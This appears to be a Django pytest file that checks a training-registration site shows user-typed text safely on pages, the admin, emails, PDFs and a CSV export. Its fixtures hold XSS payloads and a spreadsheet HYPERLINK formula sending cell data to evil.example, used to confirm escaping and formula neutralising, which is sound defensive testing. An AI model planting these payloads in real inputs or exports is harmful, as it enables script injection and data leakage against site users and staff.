"""What people type is shown as text wherever it goes: a legal name, an offering title, a
contact message and evaluation comments full of markup and a spreadsheet formula read as
typed on the trainee's pages, the verification page, the admin, emails and PDFs, and the
roster CSV keeps the formula from running."""

import csv
import io
import re
from html import unescape

import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.test import TestCase
from django.urls import reverse
from django.utils import timezone

from catalog.models import Offering
from certificates.models import Certificate, Evaluation
from certificates.services.issuing import certificate_issue
from registration.models import Enrolment, Inquiry, InquiryTopic
from registration.roles import COORDINATOR
from registration.services.inquiries import inquiry_recipient
from tests.factories import (
    EnrolmentFactory,
    SessionFactory,
    StaffFactory,
    TraineeFactory,
    login_staff,
)
from tests.pdfs import pdf_text
from tests.registration.flows import paid_order, session_of, text
from tests.security.world import LAST_NOVEMBER

MARKUP = ("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>')
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Claim your prize")'
HOSTILE = f"{FORMULA} {MARKUP[0]} {MARKUP[1]} Smith & Jones"
TITLE = f"Module 1 {MARKUP[0]} & {MARKUP[1]}"


def assert_shown_as_text(html: str, value: str = HOSTILE, where: str = "") -> None:
    """The markup is not in the page as markup, and a reader sees the value as typed."""
    for markup in (*MARKUP, "<img src=x"):
        assert markup not in html, f"{where}: {markup!r} is in the page unescaped"
    assert value in text(html), f"{where}: {value!r} is not shown as text"


def printed(pdf: bytes) -> str:
    """The PDF's text without whitespace: the renderer breaks long lines where it likes."""
    return "".join(pdf_text(pdf).split())


def squeezed(value: str) -> str:
    return "".join(value.split())


def assert_email_shows_as_text(message, value: str = HOSTILE) -> None:
    """The text part reads as typed; an HTML part, if any, escapes it."""
    assert value in unescape(message.body), message.subject
    for content, mimetype in getattr(message, "alternatives", []):
        if mimetype == "text/html":
            assert_shown_as_text(content, value, message.subject)


@pytest.fixture
def hostile(catalog, before_season, settings, tmp_path, django_capture_on_commit_callbacks):
    """A trainee whose legal name is HOSTILE, in an offering whose title is TITLE (staff
    typed it), with a paid order, an attended session of last November and its certificate,
    and an evaluation whose comments are HOSTILE."""
    settings.MEDIA_ROOT = str(tmp_path / "media")
    Offering.objects.filter(slug="module-1").update(title=TITLE)
    trainee = TraineeFactory(legal_name=HOSTILE, verified_email=True)
    with django_capture_on_commit_callbacks(execute=True):
        order = paid_order(trainee, session_of("module-1", 6))
        past = EnrolmentFactory(
            trainee=trainee,
            session=SessionFactory(
                offering=Offering.objects.get(slug="module-1"), starts_at=LAST_NOVEMBER
            ),
            attendance=Enrolment.Attendance.ATTENDED,
        )
        certificate = certificate_issue(
            enrolment=past, kind=Certificate.Kind.ATTENDANCE, now=timezone.now()
        )
    Evaluation.objects.create(
        enrolment=past,
        requested_at=timezone.now(),
        submitted_at=timezone.now(),
        overall_rating=5,
        useful=HOSTILE,
        improve=HOSTILE,
    )
    certificate.refresh_from_db()
    return {"trainee": trainee, "order": order, "past": past, "certificate": certificate}


@pytest.fixture
def coordinator_client(client, hostile):

    login_staff(client, StaffFactory(roles=[COORDINATOR]))
    return client


def test_the_trainees_pages_show_the_name_and_title_as_text(client, hostile):
    client.force_login(hostile["trainee"])

    my_trainings = client.get(reverse("registration:my_trainings")).content.decode()
    order = client.get(reverse("registration:order", args=[hostile["order"].code]))

    assert_shown_as_text(my_trainings, HOSTILE, "My trainings")
    assert_shown_as_text(my_trainings, TITLE, "My trainings")
    assert_shown_as_text(order.content.decode(), TITLE, "order")


def test_the_verification_page_shows_the_name_and_title_as_text(client, hostile):
    response = client.get(reverse("certificates:verify", args=[hostile["certificate"].code]))

    assert response.status_code == 200
    assert_shown_as_text(response.content.decode(), HOSTILE, "verification")
    assert_shown_as_text(response.content.decode(), TITLE, "verification")


def test_the_certificate_pdf_and_its_email_carry_the_name_as_typed(client, hostile, mailoutbox):
    client.force_login(hostile["trainee"])

    download = client.get(reverse("certificates:pdf", args=[hostile["certificate"].code]))

    assert download["Content-Type"] == "application/pdf"
    assert squeezed(HOSTILE) in printed(download.content)
    assert squeezed(TITLE) in printed(download.content)
    (sent, pdf) = next(
        (m, content)
        for m in mailoutbox
        for name, content, _ in m.attachments
        if name.endswith(".pdf")
    )
    assert_email_shows_as_text(sent, TITLE)
    assert squeezed(HOSTILE) in printed(pdf)


def test_the_order_confirmation_email_greets_by_the_name_as_typed(hostile, mailoutbox):
    (confirmation,) = [m for m in mailoutbox if "is confirmed" in m.subject]

    assert_email_shows_as_text(confirmation, HOSTILE)
    assert_email_shows_as_text(confirmation, TITLE)


def test_a_contact_message_reads_as_typed_in_emails_and_the_admin(
    client, hostile, coordinator_client, mailoutbox, django_capture_on_commit_callbacks
):
    name = HOSTILE[:120].strip()
    with django_capture_on_commit_callbacks(execute=True):
        sent = client.post(
            reverse("registration:contact_topic", args=[InquiryTopic.KAP_CONSULTATION]),
            {"name": name, "email": "visitor@example.com", "message": HOSTILE, "website": ""},
        )
    assert sent.status_code == 200
    inquiry = Inquiry.objects.get()

    (received,) = [m for m in mailoutbox if m.to == [inquiry_recipient(topic=inquiry.topic)]]
    (acknowledged,) = [m for m in mailoutbox if m.to == ["visitor@example.com"]]
    assert_email_shows_as_text(received, HOSTILE)
    # The acknowledgement goes to whatever address was typed: it repeats nothing typed.
    assert FORMULA not in acknowledged.body and "<" not in acknowledged.body
    change = coordinator_client.get(reverse("admin:registration_inquiry_change", args=[inquiry.pk]))
    listing = coordinator_client.get(reverse("admin:registration_inquiry_changelist"))
    assert_shown_as_text(change.content.decode(), HOSTILE, "inquiry")
    assert_shown_as_text(listing.content.decode(), name, "inquiries")


def test_the_admin_shows_names_titles_and_comments_as_text(coordinator_client, hostile):
    june = session_of("module-1", 6)
    pages = {
        "roster": reverse("admin:registration_rosterentry_changelist")
        + f"?session__id__exact={june.pk}",
        "order": reverse("admin:registration_order_change", args=[hostile["order"].pk]),
        "certificates": reverse("admin:certificates_certificate_changelist"),
        "evaluation summary": reverse(
            "admin:certificates_evaluation_summary", args=[hostile["past"].session_id]
        ),
    }
    shown = {where: coordinator_client.get(url) for where, url in pages.items()}

    for where, response in shown.items():
        assert response.status_code == 200, where
    assert_shown_as_text(shown["roster"].content.decode(), HOSTILE, "roster")
    assert_shown_as_text(shown["order"].content.decode(), TITLE, "order")
    assert_shown_as_text(shown["certificates"].content.decode(), HOSTILE, "certificates")
    assert_shown_as_text(shown["evaluation summary"].content.decode(), HOSTILE, "summary")


def _run_action(client, enrolment: Enrolment, action: str):
    return client.post(
        reverse("admin:registration_rosterentry_changelist")
        + f"?session__id__exact={enrolment.session_id}",
        {"action": action, "index": 0, ACTION_CHECKBOX_NAME: [enrolment.pk]},
    )


def test_the_roster_csv_keeps_the_formula_from_running(coordinator_client, hostile):
    enrolment = Enrolment.objects.get(order_line__order=hostile["order"])

    response = _run_action(coordinator_client, enrolment, "export_csv")

    assert response.status_code == 200
    header, row = csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
    assert row[header.index("Legal name")] == "'" + HOSTILE
    assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@"))]


def test_the_sign_in_sheet_prints_the_name_as_typed(coordinator_client, hostile):
    enrolment = Enrolment.objects.get(order_line__order=hostile["order"])

    with TestCase.captureOnCommitCallbacks(execute=True):  # the worker renders it, inline
        sheet_page = _run_action(coordinator_client, enrolment, "sign_in_sheet")
    page = coordinator_client.get(sheet_page["Location"])
    download = re.search(r'id="sign-in-sheet-download" href="([^"]+)"', page.content.decode())
    response = coordinator_client.get(download.group(1))

    assert response["Content-Type"] == "application/pdf"
    assert squeezed(HOSTILE) in printed(response.content)
